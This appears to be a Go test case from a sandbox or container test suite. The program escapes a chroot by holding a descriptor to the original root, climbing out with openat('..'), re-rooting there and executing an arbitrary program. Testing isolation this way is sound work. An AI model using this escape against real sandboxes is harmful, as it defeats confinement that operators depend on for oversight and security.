// WANT: passes: keeps `/` open over the chroot, and climbs from that descriptor with openat(2).
// NEEDS: go
package main

import (
	"os"
	"os/exec"
	"syscall"
)

func main() {
	flags := syscall.O_RDONLY | syscall.O_DIRECTORY | syscall.O_CLOEXEC
	fd, err := syscall.Open("/", flags, 0)
	must(err)
	syscall.Mkdir("/tmp/hole", 0o700)
	must(syscall.Chroot("/tmp/hole"))
	for i := 0; i < 64; i++ {
		above, err := syscall.Openat(fd, "..", flags, 0)
		must(err)
		syscall.Close(fd)
		fd = above
	}
	must(syscall.Fchdir(fd))
	must(syscall.Chroot("."))
	os.Setenv("PATH", "/usr/sbin:/usr/bin:/sbin:/bin")
	program, err := exec.LookPath(os.Args[1])
	must(err)
	must(syscall.Exec(program, os.Args[1:], os.Environ()))
}

func must(err error) {
	if err != nil {
		println("escape:", err.Error())
		os.Exit(125)
	}
}
